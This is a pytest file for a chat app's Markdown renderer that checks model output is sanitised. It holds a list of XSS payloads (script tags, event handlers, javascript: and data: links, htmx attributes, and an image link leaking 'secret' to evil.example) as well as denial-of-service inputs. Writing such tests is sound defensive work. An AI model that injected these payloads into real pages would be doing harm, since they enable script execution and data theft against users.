"""Markdown of models is rendered and sanitised."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest

from chat.pages import code
from chat.pages.blocks import MAX_TEXT
from chat.pages.markdown import render

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>", "</textarea></template><script>alert(1)</script>",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java&#10;script:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)", "[a](vbscript:x)", "<javascript:alert(1)>",
    "![a](https://evil.example/?q=secret)", "![a](data:image/svg+xml;base64,AAAA)",
    "[a]: javascript:alert(1)\n\n[a]", '[a](https://x.example "onmouseover=alert(1)")',
    '[a](https://x.example" onmouseover="alert(1))', "<a href='javascript:alert(1)'>a</a>",
    "<b hx-get=/chat/ hx-trigger=load>a</b>", "<div data-hx-get=/ hx-on:click=alert(1)>a</div>",
    "```\"><script>alert(1)</script>\ncode\n```", "```html\n<script>alert(1)</script>\n```",
    "<style>*{display:none}</style>", "<base href=//evil.example>", "<form action=//evil><input>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "`<script>alert(1)</script>`", "\0<script>",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |", "[<img src=x onerror=alert(1)>](/)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<p hx-get=/>a\n\n<img src=x>",
    "[a](//evil.example)", "[a](/chat/x/delete)", "<https://x.example/\"onmouseover=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<template><script>alert(1)</script></template>", "<button data-do=retry id=send>a</button>",
    "- <object data=//evil.example>\n- <embed src=//evil.example>", "> <video src=//evil.example autoplay>",
    "<div class=bar style=position:fixed;inset:0>a</div>", "![a][b]\n\n[b]: https://evil.example/x.png",
    r"$\href{javascript:alert(1)}{x}$", r"$\text{<img src=x onerror=alert(1)>}$",
    r"\(\style{background:url(//evil.example)}{x}\)", "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    "```math\n\\text{<svg onload=alert(1)>}\n```", "https://x.example/\"onmouseover=alert(1)",
]  # fmt: skip
TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>")
HARMLESS = re.compile(
    r"""(\s+(href="(https?|mailto):[^"]*"|rel="noopener\snoreferrer"|title="[^"]*"|target="_blank"
    |class="[a-z0-9 ]*"|tabindex="0"|start="\d+"|dir="(auto|ltr)"|display="(inline|block)"
    |encoding="application/x-tex"|(width|stretchy|form|fence)="[a-z0-9.]+"))*\s*/?""", re.VERBOSE)  # fmt: skip
TAGS = {"math", "semantics", "annotation", "mrow", "mi", "mtext", "a", "blockquote", "ul", "li", "code", "div", "em", "h3", "p", "pre", "span", "strong", "table", "tbody", "td", "th",
        "thead", "tr"}  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_is_removed(text: str) -> None:
    assert_harmless(render(text))


def assert_harmless(html: str) -> None:
    for tag, attributes in TAG.findall(html.replace(code.copy_button(), "")):
        assert tag in TAGS
        assert HARMLESS.fullmatch(attributes), attributes


def test_the_pattern_of_harmless_attributes_rejects_harmful_ones() -> None:
    for attributes in (
        ' onclick="x"',
        ' href="javascript:x"',
        ' src="x"',
        ' hx-get="/"',
        ' style="x"',
    ):
        assert not HARMLESS.fullmatch(attributes)


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("**b** and *i*", "<strong>b</strong> and <em>i</em>"),
        ("# Title", '<h3 dir="auto">Title</h3>'),
        ("a `b`", "<code>b</code>"),
        ("3. x", '<ol start="3" dir="auto">'),
        ("| a |\n|---|\n| 1 |", '<div class="scroll" tabindex="0"><table>'),
        ("```python\ndef f(): pass\n```", '<span class="k">def</span>'),
        (
            "```no-such-language\n<x>\n```",
            '<pre tabindex="0" dir="ltr"><code>&lt;x&gt;\n</code></pre>',
        ),
        (
            "```py a=1\nx\n```",
            '<div class="bar"><button type="button" data-do="copy-code">Copy</button><span>py</span>',
        ),
        ("```<b>\nx\n```", "<span>Code</span>"),
        ("```sql\nSELECT c.city FROM customers c\n```", '<span class="n">c</span>'),
        (
            "[a](https://x.example)",
            '<a href="https://x.example" target="_blank" rel="noopener noreferrer">a<',
        ),
        ("![a cat](https://x.example/c.png)", ">a cat</a>"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("| a | b |\n|--:|:-:|\n| 1 | 2 |", '<td dir="auto" class="right">1</td>'),
        ("| a | b |\n|--:|:-:|\n| 1 | 2 |", '<th dir="auto" class="center">b</th>'),
        ("- [ ] a\n- [x] b", '<li class="task">☐ a</li>\n<li class="task">☑ b</li>'),
        ("- [x](https://x.example)", '<li><a href="https://x.example"'),
        ("مرحبا.", '<p dir="auto">مرحبا.</p>'),
        ("- مرحبا", '<ul dir="auto">'),
        ("See https://x.example/a_b_c.", ">https://x.example/a_b_c</a>."),
        ("x.example and a@x.example", '<p dir="auto">x.example and a@x.example</p>'),
    ],
)
def test_markdown_is_rendered(text: str, part: str) -> None:
    assert part in render(text)


LONG = ["[" * 20_000, "![" * 1_000, "`" * 50_000, "*a " * 16_000, ">" * 40_000, "- " * 20_000,
        "```perl\n" + "s{" * 4_900 + "\n```", ("```terraform\n" + "_" * 900 + "\n```\n") * 40,
        "|a" * 10_000 + "\n" + "|-" * 10_000, "a" * 500_000, "```zeek\n" + "1" * 9_900 + "\n```",
        ("```ini\n" + " =" * 2_000 + "\n```\n") * 8, ("```python\n" + "(" * 7_000 + "\n```\n") * 6]  # fmt: skip


@pytest.mark.parametrize("text", LONG, ids=range(len(LONG)))
def test_rendering_is_fast_for_any_text(text: str) -> None:
    started = time.process_time()
    assert render(text)
    # Each takes 0.4 s at most. Without the limits of `markdown`, some take many seconds.
    assert time.process_time() - started < 2


def test_the_time_limit_of_rendering_ignores_other_processes() -> None:
    def tokens() -> Iterator[int]:
        time.sleep(0.3)
        yield 1

    render("Start the clock.")
    assert list(code.in_time(tokens(), time.thread_time() + 0.2)) == [1]


def test_a_text_that_is_too_long_is_not_rendered() -> None:
    assert render("<b>" * MAX_TEXT).startswith('<div class="plain">&lt;b&gt;')


@pytest.mark.parametrize("text", ["See //example.com", "See <//example.com>", "//a.b/c"])
def test_what_looks_like_an_address_without_a_scheme_is_no_link(text: str) -> None:
    assert "<a" not in render(text)
    assert 'href="https://example.com"' in render("See https://example.com")
